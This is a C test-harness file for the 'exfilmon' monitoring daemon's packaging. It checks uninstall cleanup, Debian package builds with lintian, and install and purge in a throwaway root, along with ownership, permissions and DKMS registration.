			    strstr(call, "PROT_WRITE") &&
			    strstr(call, "PROT_EXEC")) ||
			   ((!strncmp(call, "mprotect(", 9) ||
			     !strncmp(call, "pkey_mprotect(", 14)) &&
			    strstr(call, "PROT_EXEC"))) {
			bad = 1;
		} else {
			continue;
		}
		if (bad) {
			TH_LOG("refused under the unit: %s", call);
			bad = 0;
			_metadata->passed = 0;
		}
	}
	fclose(f);
	EXPECT_EQ(1, daemon);
	/* its listening socket, at least, was seen: the trace is live */
	EXPECT_LT(0, sockets);
}

/* a live install registers the module with dkms; uninstall undoes it */
TEST_F(live, live_uninstall_removes_files_and_dkms_entry)
{
	if (_metadata->skip)
		return;
	if (!have_prog("dkms"))
		SKIP(return, "no dkms here");
	ASSERT_EQ(0, run("dkms status exfilmon/%s | grep -q ': added$'",
			 EXFILMON_VERSION));
	ASSERT_EQ(0, run("make -s uninstall BUILD=%s >/dev/null",
			 self->build));
	EXPECT_EQ(0, run("! dkms status exfilmon 2>/dev/null | grep -q ."));
	EXPECT_EQ(0, run("! test -e /usr/sbin/exfilmond && ! test -e "
			 "/usr/lib/systemd/system/exfilmond.service && ! test "
			 "-e /usr/src/exfilmon-%s", EXFILMON_VERSION));
	/* the changed config and the group stay */
	EXPECT_EQ(0, run("grep -qx 'path = " SECRET "' "
			 "/etc/exfilmon/exfilmon.conf"));
	EXPECT_NE(NULL, getgrnam("exfilmon"));
}

/* ------------------------------------------------------------------ */
/* make deb, lintian, and dpkg in a throwaway root */

FIXTURE(deb) {
	char dir[64];
	char debs[2][160];
	struct troot t;
};

FIXTURE_SETUP(deb)
{
	static const char *const tools[] = { "make", "dpkg-buildpackage",
					     "lintian", "dpkg", "git",
					     "fakeroot", NULL };
	const char *m = missing_tool(tools);

	if (m)
		SKIP(return, "no %s here (a VM guest): packaged on the host",
		     m);
	strcpy(self->dir, "/tmp/exfilmon-deb-XXXXXX");
	ASSERT_NE(NULL, mkdtemp(self->dir));
	snprintf(self->debs[0], sizeof(self->debs[0]),
		 "%s/deb/exfilmon_%s_", self->dir, EXFILMON_VERSION);
	snprintf(self->debs[1], sizeof(self->debs[1]),
		 "%s/deb/exfilmon-dkms_%s_all.deb", self->dir,
		 EXFILMON_VERSION);
}

FIXTURE_TEARDOWN(deb)
{
	if (self->t.host > 0) {
		EXPECT_EQ(0, leaked(&self->t));
		/* the real root's /tmp, not the throwaway's upper layer */
		if (fchdir(self->t.host) || chroot("."))
			TH_LOG("failed to leave the throwaway root");
	}
	if (self->dir[0])
		run("rm -rf %s", self->dir);
}

/*
 * Both packages build from a copy of the tree, lintian finds no error,
 * and dpkg installs them: the group, the directories with their owner and
 * mode, the unit enabled but not started (no systemd runs in there), the
 * DKMS source registered; then purges them, leaving nothing behind but
 * the group, as Debian does with system groups.
 */
TEST_F_TIMEOUT(deb, builds_lintian_clean_and_installs, 240)
{
	char arch[32], cmd[512];
	FILE *f;

	if (_metadata->skip)
		return;
	ASSERT_EQ(0, run("make -s deb BUILD=%s >%s/make.log 2>&1 || "
			 "{ tail -n 60 %s/make.log >&2; false; }", self->dir,
			 self->dir, self->dir));
	EXPECT_EQ(0, run("! grep '^E:' %s/deb/lintian.log", self->dir));
	f = popen("dpkg --print-architecture", "r");
	ASSERT_NE(NULL, f);
	ASSERT_NE(NULL, fgets(arch, sizeof(arch), f));
	pclose(f);
	arch[strcspn(arch, "\n")] = '\0';
	strcat(self->debs[0], arch);
	strcat(self->debs[0], ".deb");
	ASSERT_EQ(0, access(self->debs[0], F_OK));
	ASSERT_EQ(0, access(self->debs[1], F_OK));
	/* the unit is the package's; the config and logrotate are conffiles */
	EXPECT_EQ(0, run("dpkg-deb -c %s | grep ' ./lib/systemd/system/"
			 "exfilmond.service$' >/dev/null", self->debs[0]));
	EXPECT_EQ(0, run("dpkg-deb -f %s Depends | grep libbpf >/dev/null",
			 self->debs[0]));
	EXPECT_EQ(0, run("dpkg-deb -I %s conffiles | sort | tr '\\n' ' ' | "
			 "grep -qx '/etc/exfilmon/exfilmon.conf "
			 "/etc/logrotate.d/exfilmon '", self->debs[0]));

	ASSERT_EQ(0, enter_throwaway_root(&self->t));
	/* no service starts, whatever the scripts think */
	ASSERT_EQ(0, run("printf '#!/bin/sh\\nexit 101\\n' "
			 ">/usr/sbin/policy-rc.d && chmod 755 "
			 "/usr/sbin/policy-rc.d"));
	/*
	 * Without kernel headers, DKMS registers the source and skips the
	 * build, and the package still configures: that is what happens on a
	 * desktop without headers. (tests/kmod/test_build.c builds it.)
	 */
	ASSERT_EQ(0, run("rm -f /lib/modules/*/build /lib/modules/*/source"));
	snprintf(cmd, sizeof(cmd), "dpkg -i %s %s >/tmp/dpkg.log 2>&1 || "
		 "{ cat /tmp/dpkg.log >&2; false; }", self->debs[0],
		 self->debs[1]);
	ASSERT_EQ(0, run("%s", cmd));
	EXPECT_EQ(0, run("dpkg-query -W -f '${db:Status-Status}\\n' exfilmon "
			 "exfilmon-dkms | tr '\\n' ' ' | grep -qx "
			 "'installed installed '"));
	EXPECT_NE(NULL, getgrnam("exfilmon"));
	EXPECT_EQ(0, run("test \"$(stat -c '%%a %%U:%%G' /var/lib/exfilmon "
			 "/run/exfilmon | tr '\\n' ' ')\" = "
			 "'750 root:exfilmon 750 root:exfilmon '"));
	EXPECT_EQ(0, run("test \"$(stat -c '%%a %%U:%%G' /usr/sbin/exfilmond "
			 "/usr/bin/exfilctl /etc/exfilmon/exfilmon.conf | "
			 "tr '\\n' ' ')\" = '755 root:root 755 root:root "
			 "644 root:root '"));
	EXPECT_EQ(0, run("exfilctl --version | grep -q '^exfilctl '"));
	EXPECT_EQ(0, run("exfilmond --version >/dev/null"));
	/* enabled for the next boot, not started now */
	EXPECT_EQ(0, run("test -L /etc/systemd/system/multi-user.target.wants/"
			 "exfilmond.service"));
	EXPECT_EQ(0, run("dpkg -L exfilmon | grep -qx "
			 "/usr/share/man/man8/exfilmond.8.gz"));
	EXPECT_EQ(0, run("dpkg -L exfilmon | grep -qx "
			 "/usr/share/bash-completion/completions/exfilctl"));
	EXPECT_EQ(0, run("dpkg -L exfilmon-dkms | grep -qx "
			 "/usr/src/exfilmon-%s/dkms.conf", EXFILMON_VERSION));
	EXPECT_EQ(0, run("dkms status exfilmon/%s | grep -q ': added$'",
			 EXFILMON_VERSION));
	EXPECT_EQ(0, run("grep -q 'headers for this kernel do not seem to be "
			 "installed' /tmp/dpkg.log"));
	/* the unit as installed, with every path it names, verifies */
	if (have_prog("systemd-analyze"))
		EXPECT_EQ(0, run("systemd-analyze verify /lib/systemd/system/"
				 "exfilmond.service"));

	ASSERT_EQ(0, run("dpkg --purge exfilmon exfilmon-dkms "
			 ">/tmp/purge.log 2>&1 || { cat /tmp/purge.log >&2; "
			 "false; }"));
	EXPECT_EQ(0, run("! dpkg-query -W exfilmon exfilmon-dkms "
			 "2>/dev/null | grep -q ."));
	EXPECT_EQ(0, run("! test -e /usr/sbin/exfilmond && ! test -e "
			 "/etc/exfilmon && ! test -e /var/lib/exfilmon && "
			 "! test -e /usr/src/exfilmon-%s && ! test -e "
			 "/etc/systemd/system/multi-user.target.wants/"
			 "exfilmond.service", EXFILMON_VERSION));
	EXPECT_EQ(0, run("! dkms status exfilmon 2>/dev/null | grep -q ."));
}

TEST_HARNESS_MAIN
